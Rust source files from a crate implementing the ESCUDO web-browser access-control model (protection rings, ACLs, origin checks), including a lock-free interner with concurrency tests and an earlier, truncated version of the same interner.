    fn display_names_the_ring() {
        assert_eq!(Ring::new(2).to_string(), "ring 2");
    }

    #[test]
    fn privilege_relation_is_total_and_antisymmetric() {
        for &a in &SAMPLE_LEVELS {
            for &b in &SAMPLE_LEVELS {
                let (ra, rb) = (Ring::new(a), Ring::new(b));
                // Totality: at least one direction holds.
                assert!(ra.is_at_least_as_privileged_as(rb) || rb.is_at_least_as_privileged_as(ra));
                // Antisymmetry: both directions only when equal.
                if ra.is_at_least_as_privileged_as(rb) && rb.is_at_least_as_privileged_as(ra) {
                    assert_eq!(ra, rb);
                }
            }
        }
    }

    #[test]
    fn least_privileged_is_commutative_and_idempotent() {
        for a in 0u16..200 {
            for b in 0u16..200 {
                let (ra, rb) = (Ring::new(a), Ring::new(b));
                assert_eq!(ra.least_privileged(rb), rb.least_privileged(ra));
                assert_eq!(ra.least_privileged(ra), ra);
                // The result is never more privileged than either input.
                let r = ra.least_privileged(rb);
                assert!(ra.is_at_least_as_privileged_as(r));
                assert!(rb.is_at_least_as_privileged_as(r));
            }
        }
    }

    #[test]
    fn parse_roundtrip() {
        for level in (0..=u16::MAX).step_by(97).chain([u16::MAX]) {
            let ring = Ring::new(level);
            let parsed: Ring = ring.level().to_string().parse().unwrap();
            assert_eq!(parsed, ring);
        }
    }
}
