//! # escudo-core
//!
//! The ESCUDO access-control model from *"ESCUDO: A Fine-grained Protection Model for
//! Web Browsers"* (Jayaraman, Du, Rajagopalan, Chapin — ICDCS 2010).
//!
//! ESCUDO treats every web page as a small "system": the page's principals
//! (script-invoking and HTTP-request-issuing constructs) and objects (DOM regions,
//! cookies, native-code APIs, browser state) are placed in per-page
//! [hierarchical protection rings](Ring) chosen by the web application, optionally
//! refined by per-object [access-control lists](Acl). An access `⟨P ▷ O⟩` is permitted
//! if and only if **all three** of the following hold:
//!
//! 1. the **origin rule** — principal and object share an [`Origin`],
//! 2. the **ring rule** — `R(P) ≤ R(O)` (the principal is at least as privileged),
//! 3. the **ACL rule** — `R(P) ≤ ⊓(O, ▷)` (the object's ACL admits the operation).
//!
//! This crate contains the policy model itself, independent of any browser engine:
//!
//! * [`Ring`], [`Acl`], [`Operation`] — the protection-ring algebra,
//! * [`Origin`] — the same-origin triple `⟨scheme, host, port⟩`,
//! * [`ObjectContext`] / [`PrincipalContext`] — the security contexts the browser
//!   extracts at parse time and tracks for the lifetime of the page,
//! * [`policy`] — the decision procedure (and the same-origin-policy baseline),
//! * [`engine`] — the pluggable [`PolicyEngine`] with context interning and a shared
//!   decision cache, the single decision core every enforcement point goes through,
//! * [`config`] — the AC-tag attribute format and the optional HTTP headers used to
//!   label cookies and native APIs,
//! * [`scoping`] — the scoping rule that clamps children to their parent's privilege,
//! * [`tenant`] — the multi-tenant control plane: generation-swapped engine
//!   handles for hot policy reload, per-tenant token-bucket admission control
//!   and the tenant registry,
//! * [`nonce`] — markup-randomization nonces that defeat node-splitting attacks,
//! * [`taxonomy`] — the principal/object inventory of the paper's Table 1.
//!
//! # Example
//!
//! ```
//! use escudo_core::{Acl, Operation, Origin, Ring};
//! use escudo_core::context::{ObjectContext, ObjectKind, PrincipalContext, PrincipalKind};
//! use escudo_core::policy::{decide, PolicyMode};
//!
//! let origin = Origin::new("http", "blog.example", 80);
//!
//! // A trusted application script running in ring 1.
//! let app_script = PrincipalContext::new(PrincipalKind::Script, origin.clone(), Ring::new(1));
//! // A user comment region mapped to ring 3, writable only from rings 0–2.
//! let comment = ObjectContext::new(ObjectKind::DomElement, origin.clone(), Ring::new(3))
//!     .with_acl(Acl::new(Ring::new(3), Ring::new(2), Ring::new(3)));
//!
//! assert!(decide(PolicyMode::Escudo, &app_script, &comment, Operation::Write).is_allowed());
//!
//! // A script instantiated from the comment itself runs in ring 3 and may not
//! // modify the comment region (write ACL requires ring ≤ 2).
//! let comment_script = PrincipalContext::new(PrincipalKind::Script, origin, Ring::new(3));
//! assert!(!decide(PolicyMode::Escudo, &comment_script, &comment, Operation::Write).is_allowed());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod acl;
pub mod config;
pub mod context;
pub mod engine;
pub mod error;
pub mod interner;
pub mod nonce;
pub mod operation;
pub mod origin;
pub mod policy;
pub mod ring;
pub mod scoping;
pub mod taxonomy;
pub mod tenant;

pub use acl::Acl;
pub use context::{ObjectContext, ObjectKind, PrincipalContext, PrincipalKind};
pub use engine::{
    default_shard_count, engine_for_mode, ContextInterner, ContextTable, EngineStats, EscudoEngine,
    ObjectId, PolicyEngine, PrincipalId, SameOriginEngine, ShardStats, DEFAULT_CACHE_CAPACITY,
};
pub use error::{ConfigError, PolicyError};
pub use interner::{AtomicInterner, SPILL_WINDOW_SLOTS};
pub use nonce::Nonce;
pub use operation::Operation;
pub use origin::Origin;
pub use policy::{decide, Decision, DenyReason, PolicyMode};
pub use ring::Ring;
pub use tenant::{
    AdmissionControl, AdmissionStats, Clock, EngineGeneration, EngineHandle, EngineReader,
    ManualClock, MonotonicClock, Tenant, TenantConfig, TenantRegistry,
};
