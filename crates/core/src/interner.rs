//! A lock-free, append-only interner: the data structure that removed the last
//! global stall from the decision path.
//!
//! The sharded engine of PR 2 kept one `RwLock<ContextTable>` in front of the
//! decision cache. The read path scaled (any number of threads can hold the read
//! lock), but a **first-touch storm** — many threads meeting many genuinely new
//! contexts at once, the signature of a multi-tenant deployment absorbing a burst
//! of fresh origins — serialized every intern behind the single write lock, and a
//! writer-preferring `RwLock` stalls the warm readers behind the queued writers
//! too. [`AtomicInterner`] replaces that lock with an **append-only bucket array
//! of segment chains** where
//!
//! * **lookups are wait-free**: a bucket is selected by the key's hash and its
//!   chain of immutable, already-published slots is walked with plain acquire
//!   loads — no lock, no CAS, no retry loop, regardless of how many writers are
//!   storming the table;
//! * **interning is a CAS-append**: a thread claims the first empty slot of its
//!   bucket's chain with a single compare-and-swap (safe Rust spells it
//!   [`OnceLock::set`] — exactly one caller wins, every loser gets the winner's
//!   value back); the loser re-examines the slot it lost and either **adopts the
//!   winner's id** (the winner interned the same key) or probes onward;
//! * **ids stay dense and stable**: the slot claim decides *who* assigns the id,
//!   and only the winner draws from the shared counter — a lost race never burns
//!   an id, so ids are exactly `0, 1, 2, …` in claim order and downstream layers
//!   (the `(pid, oid, op)` decision-cache shards, `decide_many`) keep indexing
//!   arrays with them, untouched.
//!
//! # The slot protocol
//!
//! ```text
//! bucket[hash] ─► Segment ──next──► Segment ──next──► …
//!                 ┌──────┬──────┬──────┬──────┐
//!                 │ slot │ slot │ slot │ slot │   each slot: OnceLock<Entry>
//!                 └──────┴──────┴──────┴──────┘   Entry { hash, key, id: AtomicU32 }
//! ```
//!
//! Slots fill strictly front to back: a walker only moves past a slot it has
//! observed to be occupied (its own claim either failed against a winner or the
//! slot was already published), so an empty slot proves the key is absent from
//! everything after it. That invariant is what makes the read walk terminate
//! correctly without any lock: `lookup` stops at the first empty slot.
//!
//! The id is published *after* the slot claim (`id` starts at a sentinel and is
//! stored with release ordering once the winner has drawn it from the dense
//! counter). A reader that observes a claimed-but-unpublished entry spins briefly
//! — the window is two instructions wide — and yields if the winner was preempted
//! inside it, so the structure stays safe on oversubscribed single-core runners.
//!
//! # Bounded bucket depth: the spill window
//!
//! A fixed bucket array has one pathology: keys whose high hash bits collide all
//! land in one bucket, and its chain — which every probe walks linearly — grows
//! without bound. To keep the worst-case walk short, a key may only *claim* a
//! slot inside its primary bucket's **spill window** (the first
//! [`SPILL_WINDOW_SLOTS`] slots). When the whole window is occupied by other
//! keys, interning continues in the key's **spill bucket**, selected from a
//! *different* slice of the hash (`hash >> 16` instead of `hash >> 32`), so keys
//! that collide on their primary bucket scatter across the table instead of
//! deepening one chain.
//!
//! The absence proof survives: slots still fill strictly front to back, so an
//! empty slot inside the primary window proves the key never sat down there *and*
//! never spilled (spilling requires having observed the whole window occupied).
//! A probe therefore walks at most the window plus one spill chain. Degenerate
//! case: when the spill bucket coincides with the primary bucket (always true
//! for a 1-bucket table), the chain simply grows unbounded as before — the
//! policy needs two distinct buckets to have anywhere to spill to.
//!
//! Every failed claim bumps a **CAS-retry counter** and chain growth is visible as
//! **bucket depth**; both surface through `EngineStats` so first-touch storms are
//! observable in production, not just in benches.

use std::sync::atomic::{AtomicU32, AtomicU64, Ordering};
use std::sync::OnceLock;

/// Entries per segment. Small enough that a touched bucket stays within a few
/// cache lines, large enough that typical buckets (a handful of contexts)
/// never chain.
const SEGMENT_SLOTS: usize = 4;

/// Default number of buckets (a power of two so bucket selection is a mask).
/// Sized for the realistic case — an engine sees tens of distinct contexts, so
/// chains stay at depth ≤ 1; storm-scale tables should size up via
/// [`AtomicInterner::with_buckets`].
pub const DEFAULT_INTERNER_BUCKETS: usize = 128;

/// `id` value meaning "slot claimed, dense id not yet published".
const ID_PENDING: u32 = u32::MAX;

/// Segments of a key's primary bucket it may claim a slot in before spilling.
const SPILL_WINDOW_SEGMENTS: usize = 2;

/// Bound on the slots a key may occupy — and a probe must walk — in its
/// *primary* bucket before interning continues in the key's spill bucket.
/// With ≥ 2 buckets, no single bucket's pile-up can push probe walks past
/// `SPILL_WINDOW_SLOTS` plus the (scattered) spill chain.
pub const SPILL_WINDOW_SLOTS: usize = SPILL_WINDOW_SEGMENTS * SEGMENT_SLOTS;

/// One published intern: the key, its full hash (so probes can skip non-matches
/// without a field comparison), and its dense id.
struct Entry<K> {
    hash: u64,
    key: K,
    /// [`ID_PENDING`] between the slot claim and the id publication.
    id: AtomicU32,
}

/// A fixed block of append-once slots plus the link to the next block. Segments
/// are never removed or reordered — the chain only grows — which is what makes
/// the unlocked read walk sound.
struct Segment<K> {
    slots: [OnceLock<Entry<K>>; SEGMENT_SLOTS],
    next: OnceLock<Box<Segment<K>>>,
}

impl<K> Segment<K> {
    fn new() -> Self {
        Segment {
            slots: std::array::from_fn(|_| OnceLock::new()),
            next: OnceLock::new(),
        }
    }
}

/// Outcome of a bounded read-only chain walk.
enum Probe {
    /// The key is published in this chain, with this dense id.
    Found(u32),
    /// An empty slot was reached: the key is provably absent from this chain
    /// and everything after it.
    Absent,
    /// The probe budget ran out with every slot occupied by other keys — the
    /// key, if interned at all, lives in its spill bucket.
    Exhausted,
}

/// The lock-free interner: a fixed bucket array of append-only segment chains
/// mapping keys onto dense `u32` ids.
///
/// Generic over the key type; callers drive it with a precomputed 64-bit hash, a
/// borrowed-match predicate (so probing never clones a key) and a key
/// constructor that only runs when a claim is actually attempted. The engine
/// wraps two of these (principal and object keys) behind
/// [`ContextInterner`](crate::engine::ContextInterner).
pub struct AtomicInterner<K> {
    /// The first segment of every bucket lives inline in one eagerly-allocated
    /// array: a first-touch intern lands in pre-existing memory (no allocation
    /// on the claim path until a bucket overflows its inline slots), which is
    /// what keeps a storm's claim cost flat. Only chain growth allocates.
    buckets: Box<[Segment<K>]>,
    /// `buckets.len() - 1`; bucket count is a power of two.
    mask: usize,
    /// The dense id counter: only slot-claim winners draw from it.
    count: AtomicU32,
    /// Slot claims that lost the CAS to a racing thread.
    cas_retries: AtomicU64,
}

impl<K> AtomicInterner<K> {
    /// Creates an interner with [`DEFAULT_INTERNER_BUCKETS`] buckets.
    #[must_use]
    pub fn new() -> Self {
        AtomicInterner::with_buckets(DEFAULT_INTERNER_BUCKETS)
    }

    /// Creates an interner with `buckets` buckets (rounded up to a power of two,
    /// at least 1). The bucket array is fixed for the interner's lifetime; more
    /// keys than `buckets × 4` simply deepen the chains.
    #[must_use]
    pub fn with_buckets(buckets: usize) -> Self {
        let buckets = buckets.max(1).next_power_of_two();
        AtomicInterner {
            buckets: (0..buckets).map(|_| Segment::new()).collect(),
            mask: buckets - 1,
            count: AtomicU32::new(0),
            cas_retries: AtomicU64::new(0),
        }
    }

    /// Waits out the claim-to-publication window of a freshly claimed entry.
    /// The window is two instructions wide, so this almost never iterates; the
    /// yield handles a winner preempted inside it on a saturated core.
    fn await_id(entry: &Entry<K>) -> u32 {
        let mut spins = 0u32;
        loop {
            let id = entry.id.load(Ordering::Acquire);
            if id != ID_PENDING {
                return id;
            }
            spins += 1;
            if spins.is_multiple_of(64) {
                std::thread::yield_now();
            } else {
                std::hint::spin_loop();
            }
        }
    }

    /// A key's primary bucket: selected by the high hash bits.
    fn primary_index(&self, hash: u64) -> usize {
        ((hash >> 32) as usize) & self.mask
    }

    /// A key's spill bucket: selected from a different hash slice, so keys
    /// whose primary buckets collide scatter instead of piling up.
    fn spill_index(&self, hash: u64) -> usize {
        ((hash >> 16) as usize) & self.mask
    }

    /// The probe budget for a key's primary chain: the spill window when a
    /// distinct spill bucket exists, unbounded otherwise (nowhere to spill to).
    fn window(&self, hash: u64) -> Option<usize> {
        if self.spill_index(hash) == self.primary_index(hash) {
            None
        } else {
            Some(SPILL_WINDOW_SEGMENTS)
        }
    }

    /// Walks one chain read-only for up to `remaining` segments (`None` =
    /// unbounded). Distinguishes *proven absence* (an empty slot — nothing ever
    /// claimed past it) from an *exhausted window* (every walked slot occupied
    /// by other keys — the key, if present, spilled).
    fn lookup_in_chain(
        &self,
        mut segment: &Segment<K>,
        mut remaining: Option<usize>,
        hash: u64,
        matches: &impl Fn(&K) -> bool,
    ) -> Probe {
        loop {
            for slot in &segment.slots {
                match slot.get() {
                    Some(entry) => {
                        if entry.hash == hash && matches(&entry.key) {
                            return Probe::Found(Self::await_id(entry));
                        }
                    }
                    None => return Probe::Absent,
                }
            }
            if let Some(budget) = remaining.as_mut() {
                *budget -= 1;
                if *budget == 0 {
                    return Probe::Exhausted;
                }
            }
            match segment.next.get() {
                Some(next) => segment = next,
                None => return Probe::Absent,
            }
        }
    }

    /// Wait-free lookup: walks the primary bucket's published slots with
    /// acquire loads — at most the spill window deep — and, when the whole
    /// window is occupied by other keys, the spill bucket's chain. The first
    /// empty slot on either walk proves absence (slots fill strictly front to
    /// back, and a key only spills after observing its entire window occupied).
    pub fn lookup(&self, hash: u64, matches: impl Fn(&K) -> bool) -> Option<u32> {
        let window = self.window(hash);
        match self.lookup_in_chain(
            &self.buckets[self.primary_index(hash)],
            window,
            hash,
            &matches,
        ) {
            Probe::Found(id) => Some(id),
            Probe::Absent => None,
            Probe::Exhausted => {
                match self.lookup_in_chain(
                    &self.buckets[self.spill_index(hash)],
                    None,
                    hash,
                    &matches,
                ) {
                    Probe::Found(id) => Some(id),
                    Probe::Absent | Probe::Exhausted => None,
                }
            }
        }
    }

    /// Walks one chain for up to `remaining` segments (`None` = unbounded),
    /// matching or CAS-claiming the first empty slot. Returns `None` only when
    /// the budget ran out with every slot occupied by other keys.
    fn intern_in_chain(
        &self,
        mut segment: &Segment<K>,
        mut remaining: Option<usize>,
        hash: u64,
        matches: &impl Fn(&K) -> bool,
        spare: &mut Option<K>,
        make: &mut Option<impl FnOnce() -> K>,
    ) -> Option<u32> {
        loop {
            for slot in &segment.slots {
                loop {
                    if let Some(entry) = slot.get() {
                        if entry.hash == hash && matches(&entry.key) {
                            return Some(Self::await_id(entry));
                        }
                        break; // occupied by a different key — probe onward
                    }
                    let key = spare
                        .take()
                        .unwrap_or_else(|| (make.take().expect("key built at most once"))());
                    let candidate = Entry {
                        hash,
                        key,
                        id: AtomicU32::new(ID_PENDING),
                    };
                    match slot.set(candidate) {
                        Ok(()) => {
                            // The claim is ours: draw the dense id and publish it.
                            let entry = slot.get().expect("entry was just set");
                            let id = self.count.fetch_add(1, Ordering::Relaxed);
                            assert!(id < ID_PENDING, "interner id space exhausted");
                            entry.id.store(id, Ordering::Release);
                            return Some(id);
                        }
                        Err(lost) => {
                            // A racing thread won this slot; keep our key for a
                            // later slot and re-examine the winner's entry.
                            self.cas_retries.fetch_add(1, Ordering::Relaxed);
                            *spare = Some(lost.key);
                        }
                    }
                }
            }
            if let Some(budget) = remaining.as_mut() {
                *budget -= 1;
                if *budget == 0 {
                    return None;
                }
            }
            segment = segment.next.get_or_init(|| Box::new(Segment::new()));
        }
    }

    /// Interns a key: returns the existing dense id when any thread has already
    /// published a matching entry, otherwise CAS-claims the first empty slot of
    /// the primary bucket's **spill window** — or, when the whole window is
    /// occupied by other keys, of the key's spill bucket — and assigns the next
    /// dense id. `make` runs at most once, and only when a claim is attempted —
    /// the warm path never constructs a key.
    ///
    /// Losing a claim is handled by *adoption*: the loser re-reads the slot the
    /// winner filled, and either takes the winner's id (same key) or carries its
    /// constructed key to the next slot. Ids therefore stay dense — an id is
    /// drawn only after a claim has irrevocably succeeded. The spill decision is
    /// race-free because slots only ever fill: once a thread has observed the
    /// whole window occupied by other keys, no thread can ever claim this key
    /// inside it, so every intern of the key converges on the spill chain.
    pub fn intern(&self, hash: u64, matches: impl Fn(&K) -> bool, make: impl FnOnce() -> K) -> u32 {
        let mut make = Some(make);
        let mut spare: Option<K> = None;
        let window = self.window(hash);
        if let Some(id) = self.intern_in_chain(
            &self.buckets[self.primary_index(hash)],
            window,
            hash,
            &matches,
            &mut spare,
            &mut make,
        ) {
            return id;
        }
        self.intern_in_chain(
            &self.buckets[self.spill_index(hash)],
            None,
            hash,
            &matches,
            &mut spare,
            &mut make,
        )
        .expect("an unbounded chain walk always matches or claims")
    }

    /// Number of keys interned so far (= the next dense id).
    #[must_use]
    pub fn len(&self) -> usize {
        self.count.load(Ordering::Acquire) as usize
    }

    /// `true` when nothing has been interned.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Slot claims that lost their CAS to a racing thread — the direct measure
    /// of first-touch contention (zero in single-threaded use).
    #[must_use]
    pub fn cas_retries(&self) -> u64 {
        self.cas_retries.load(Ordering::Relaxed)
    }

    /// The deepest bucket chain, in *entries* (not segments): the walk length of
    /// the unluckiest probe. Computed by walking the table, so it is a
    /// stats-path operation, not a hot-path one.
    #[must_use]
    pub fn max_bucket_depth(&self) -> usize {
        let mut max = 0;
        for bucket in self.buckets.iter() {
            let mut depth = 0;
            let mut segment = Some(bucket);
            while let Some(seg) = segment {
                depth += seg.slots.iter().filter(|slot| slot.get().is_some()).count();
                segment = seg.next.get().map(Box::as_ref);
            }
            max = max.max(depth);
        }
        max
    }
}

impl<K> Default for AtomicInterner<K> {
    fn default() -> Self {
        AtomicInterner::new()
    }
}

impl<K> std::fmt::Debug for AtomicInterner<K> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AtomicInterner")
            .field("buckets", &(self.mask + 1))
            .field("len", &self.len())
            .field("cas_retries", &self.cas_retries())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Barrier;

    fn fx(value: u64) -> u64 {
        // A cheap spread so test keys land in different buckets.
        value.wrapping_mul(0x9e37_79b9_7f4a_7c15).rotate_left(17)
    }

    #[test]
    fn interning_is_idempotent_and_dense() {
        let interner: AtomicInterner<u64> = AtomicInterner::with_buckets(8);
        for round in 0..3 {
            for value in 0u64..100 {
                let id = interner.intern(fx(value), |k| *k == value, || value);
                assert_eq!(id, value as u32, "round {round}");
                assert_eq!(interner.lookup(fx(value), |k| *k == value), Some(id));
            }
        }
        assert_eq!(interner.len(), 100);
        assert_eq!(interner.cas_retries(), 0, "single-threaded: no lost claims");
    }

    #[test]
    fn lookup_misses_without_constructing_anything() {
        let interner: AtomicInterner<u64> = AtomicInterner::new();
        assert_eq!(interner.lookup(fx(7), |k| *k == 7), None);
        interner.intern(fx(7), |k| *k == 7, || 7);
        assert_eq!(interner.lookup(fx(7), |k| *k == 7), Some(0));
        assert_eq!(interner.lookup(fx(8), |k| *k == 8), None);
    }

    #[test]
    fn make_runs_at_most_once_and_only_on_a_claim() {
        let interner: AtomicInterner<u64> = AtomicInterner::new();
        interner.intern(fx(1), |k| *k == 1, || 1);
        let mut built = 0;
        interner.intern(
            fx(1),
            |k| *k == 1,
            || {
                built += 1;
                1
            },
        );
        assert_eq!(built, 0, "warm intern must not construct a key");
    }

    #[test]
    fn chains_grow_past_one_segment_and_depth_is_reported() {
        // One bucket: every key chains behind it.
        let interner: AtomicInterner<u64> = AtomicInterner::with_buckets(1);
        let n = (SEGMENT_SLOTS * 3) as u64;
        for value in 0..n {
            interner.intern(fx(value), |k| *k == value, || value);
        }
        assert_eq!(interner.len(), n as usize);
        assert_eq!(interner.max_bucket_depth(), n as usize);
        // Everything is still found after the chain growth.
        for value in 0..n {
            assert_eq!(
                interner.lookup(fx(value), |k| *k == value),
                Some(value as u32)
            );
        }
    }

    #[test]
    fn saturated_primary_buckets_spill_instead_of_chaining() {
        let interner: AtomicInterner<u64> = AtomicInterner::with_buckets(16);
        // Adversarial hashes: every key's primary bucket ((hash >> 32) & 15) is
        // bucket 0, while the spill buckets ((hash >> 16) & 15) spread over
        // 1..=15 (multiples of 16 would spill back onto bucket 0, so skip them).
        let keys: Vec<u64> = (1..=80u64).filter(|i| i % 16 != 0).collect();
        let mut ids = Vec::new();
        for &i in &keys {
            let id = interner.intern(i << 16, |k| *k == i, || i);
            ids.push(id);
        }
        assert_eq!(interner.len(), keys.len());

        // Without the spill window all 75 keys would chain behind bucket 0 and
        // the unluckiest probe would walk 75 entries; with it, the window fills
        // and everyone else scatters.
        assert!(
            interner.max_bucket_depth() <= SPILL_WINDOW_SLOTS,
            "worst chain {} exceeds the spill window {}",
            interner.max_bucket_depth(),
            SPILL_WINDOW_SLOTS
        );

        // Every key still resolves to its one dense id, warm and cold.
        for (&i, &id) in keys.iter().zip(&ids) {
            assert_eq!(interner.lookup(i << 16, |k| *k == i), Some(id));
            assert_eq!(interner.intern(i << 16, |k| *k == i, || i), id);
        }
        // And absence is still proven, not guessed: a never-interned key whose
        // primary window is saturated probes the spill bucket and misses there.
        assert_eq!(interner.lookup(81 << 16, |k| *k == 81), None);
    }

    #[test]
    fn hash_collisions_are_resolved_by_field_match() {
        let interner: AtomicInterner<u64> = AtomicInterner::new();
        // Same hash, different keys: both intern, to different ids.
        let a = interner.intern(42, |k| *k == 1, || 1);
        let b = interner.intern(42, |k| *k == 2, || 2);
        assert_ne!(a, b);
        assert_eq!(interner.lookup(42, |k| *k == 1), Some(a));
        assert_eq!(interner.lookup(42, |k| *k == 2), Some(b));
    }

    #[test]
    fn racing_first_touches_converge_on_one_dense_id_per_key() {
        const THREADS: usize = 8;
        const KEYS: u64 = 64;
        // One bucket maximizes collisions: every claim races every other.
        let interner: AtomicInterner<u64> = AtomicInterner::with_buckets(1);
        let barrier = Barrier::new(THREADS);
        let ids = std::thread::scope(|scope| {
            let handles: Vec<_> = (0..THREADS)
                .map(|t| {
                    let interner = &interner;
                    let barrier = &barrier;
                    scope.spawn(move || {
                        barrier.wait();
                        (0..KEYS)
                            .map(|i| {
                                // Offset walks so threads race on different keys at
                                // different moments while the sets fully overlap.
                                let value = (i + t as u64 * 11) % KEYS;
                                (value, interner.intern(fx(value), |k| *k == value, || value))
                            })
                            .collect::<Vec<_>>()
                    })
                })
                .collect();
            handles
                .into_iter()
                .flat_map(|h| h.join().expect("storm thread"))
                .collect::<Vec<_>>()
        });

        // Every thread saw the same id per key, ids are dense, lookups all hit.
        assert_eq!(interner.len(), KEYS as usize);
        let mut by_key = vec![None; KEYS as usize];
        for (value, id) in ids {
            assert!((id as usize) < KEYS as usize, "id {id} out of dense range");
            match by_key[value as usize] {
                None => by_key[value as usize] = Some(id),
                Some(expected) => assert_eq!(id, expected, "key {value} got two ids"),
            }
        }
        let mut seen: Vec<u32> = by_key.into_iter().map(Option::unwrap).collect();
        seen.sort_unstable();
        assert_eq!(seen, (0..KEYS as u32).collect::<Vec<_>>());
    }
}
