//! A lock-free, append-only interner: the data structure that removed the last
//! global stall from the decision path.
//!
//! The sharded engine of PR 2 kept one `RwLock<ContextTable>` in front of the
//! decision cache. The read path scaled (any number of threads can hold the read
//! lock), but a **first-touch storm** — many threads meeting many genuinely new
//! contexts at once, the signature of a multi-tenant deployment absorbing a burst
//! of fresh origins — serialized every intern behind the single write lock, and a
//! writer-preferring `RwLock` stalls the warm readers behind the queued writers
//! too. [`AtomicInterner`] replaces that lock with an **append-only bucket array
//! of segment chains** where
//!
//! * **lookups are wait-free**: a bucket is selected by the key's hash and its
//!   chain of immutable, already-published slots is walked with plain acquire
//!   loads — no lock, no CAS, no retry loop, regardless of how many writers are
//!   storming the table;
//! * **interning is a CAS-append**: a thread claims the first empty slot of its
//!   bucket's chain with a single compare-and-swap (safe Rust spells it
//!   [`OnceLock::set`] — exactly one caller wins, every loser gets the winner's
//!   value back); the loser re-examines the slot it lost and either **adopts the
//!   winner's id** (the winner interned the same key) or probes onward;
//! * **ids stay dense and stable**: the slot claim decides *who* assigns the id,
//!   and only the winner draws from the shared counter — a lost race never burns
//!   an id, so ids are exactly `0, 1, 2, …` in claim order and downstream layers
//!   (the `(pid, oid, op)` decision-cache shards, `decide_many`) keep indexing
//!   arrays with them, untouched.
//!
//! # The slot protocol
//!
//! ```text
//! bucket[hash] ─► Segment ──next──► Segment ──next──► …
//!                 ┌──────┬──────┬──────┬──────┐
//!                 │ slot │ slot │ slot │ slot │   each slot: OnceLock<Entry>
//!                 └──────┴──────┴──────┴──────┘   Entry { hash, key, id: AtomicU32 }
//! ```
//!
//! Slots fill strictly front to back: a walker only moves past a slot it has
//! observed to be occupied (its own claim either failed against a winner or the
//! slot was already published), so an empty slot proves the key is absent from
//! everything after it. That invariant is what makes the read walk terminate
//! correctly without any lock: `lookup` stops at the first empty slot.
//!
//! The id is published *after* the slot claim (`id` starts at a sentinel and is
//! stored with release ordering once the winner has drawn it from the dense
//! counter). A reader that observes a claimed-but-unpublished entry spins briefly
//! — the window is two instructions wide — and yields if the winner was preempted
//! inside it, so the structure stays safe on oversubscribed single-core runners.
//!
//! Every failed claim bumps a **CAS-retry counter** and chain growth is visible as
//! **bucket depth**; both surface through `EngineStats` so first-touch storms are
//! observable in production, not just in benches.

use std::sync::atomic::{AtomicU32, AtomicU64, Ordering};
use std::sync::OnceLock;

/// Entries per segment. Small enough that a touched bucket stays within a few
/// cache lines, large enough that typical buckets (a handful of contexts)
/// never chain.
const SEGMENT_SLOTS: usize = 4;

/// Default number of buckets (a power of two so bucket selection is a mask).
/// Sized for the realistic case — an engine sees tens of distinct contexts, so
/// chains stay at depth ≤ 1; storm-scale tables should size up via
/// [`AtomicInterner::with_buckets`].
pub const DEFAULT_INTERNER_BUCKETS: usize = 128;

/// `id` value meaning "slot claimed, dense id not yet published".
const ID_PENDING: u32 = u32::MAX;

/// One published intern: the key, its full hash (so probes can skip non-matches
/// without a field comparison), and its dense id.
struct Entry<K> {
    hash: u64,
    key: K,
    /// [`ID_PENDING`] between the slot claim and the id publication.
    id: AtomicU32,
}

/// A fixed block of append-once slots plus the link to the next block. Segments
/// are never removed or reordered — the chain only grows — which is what makes
/// the unlocked read walk sound.
struct Segment<K> {
    slots: [OnceLock<Entry<K>>; SEGMENT_SLOTS],
    next: OnceLock<Box<Segment<K>>>,
}

impl<K> Segment<K> {
    fn new() -> Self {
        Segment {
            slots: std::array::from_fn(|_| OnceLock::new()),
            next: OnceLock::new(),
        }
    }
}

/// The lock-free interner: a fixed bucket array of append-only segment chains
/// mapping keys onto dense `u32` ids.
///
/// Generic over the key type; callers drive it with a precomputed 64-bit hash, a
/// borrowed-match predicate (so probing never clones a key) and a key
/// constructor that only runs when a claim is actually attempted. The engine
/// wraps two of these (principal and object keys) behind
/// [`ContextInterner`](crate::engine::ContextInterner).
pub struct AtomicInterner<K> {
    /// The first segment of every bucket lives inline in one eagerly-allocated
    /// array: a first-touch intern lands in pre-existing memory (no allocation
    /// on the claim path until a bucket overflows its inline slots), which is
    /// what keeps a storm's claim cost flat. Only chain growth allocates.
    buckets: Box<[Segment<K>]>,
    /// `buckets.len() - 1`; bucket count is a power of two.
    mask: usize,
    /// The dense id counter: only slot-claim winners draw from it.
    count: AtomicU32,
    /// Slot claims that lost the CAS to a racing thread.
    cas_retries: AtomicU64,
}

impl<K> AtomicInterner<K> {
    /// Creates an interner with [`DEFAULT_INTERNER_BUCKETS`] buckets.
    #[must_use]
    pub fn new() -> Self {
        AtomicInterner::with_buckets(DEFAULT_INTERNER_BUCKETS)
    }

    /// Creates an interner with `buckets` buckets (rounded up to a power of two,
    /// at least 1). The bucket array is fixed for the interner's lifetime; more
    /// keys than `buckets × 4` simply deepen the chains.
    #[must_use]
    pub fn with_buckets(buckets: usize) -> Self {
        let buckets = buckets.max(1).next_power_of_two();
        AtomicInterner {
            buckets: (0..buckets).map(|_| Segment::new()).collect(),
            mask: buckets - 1,
            count: AtomicU32::new(0),
            cas_retries: AtomicU64::new(0),
        }
    }

    /// Waits out the claim-to-publication window of a freshly claimed entry.
    /// The window is two instructions wide, so this almost never iterates; the
    /// yield handles a winner preempted inside it on a saturated core.
    fn await_id(entry: &Entry<K>) -> u32 {
        let mut spins = 0u32;
        loop {
            let id = entry.id.load(Ordering::Acquire);
            if id != ID_PENDING {
                return id;
            }
            spins += 1;
            if spins.is_multiple_of(64) {
                std::thread::yield_now();
            } else {
                std::hint::spin_loop();
            }
        }
    }

    /// Wait-free lookup: walks the bucket's published slots with acquire loads.
    /// Returns the dense id when an entry hash-and-field matches; the first
    /// empty slot proves absence (slots fill strictly front to back).
    pub fn lookup(&self, hash: u64, matches: impl Fn(&K) -> bool) -> Option<u32> {
        let mut segment = &self.buckets[((hash >> 32) as usize) & self.mask];
        loop {
            for slot in &segment.slots {
                match slot.get() {
                    Some(entry) => {
                        if entry.hash == hash && matches(&entry.key) {
                            return Some(Self::await_id(entry));
                        }
                    }
                    None => return None,
                }
            }
            segment = segment.next.get()?;
        }
    }

    /// Interns a key: returns the existing dense id when any thread has already
    /// published a matching entry, otherwise CAS-claims the first empty slot of
    /// the bucket's chain and assigns the next dense id. `make` runs at most
    /// once, and only when a claim is attempted — the warm path never constructs
    /// a key.
    ///
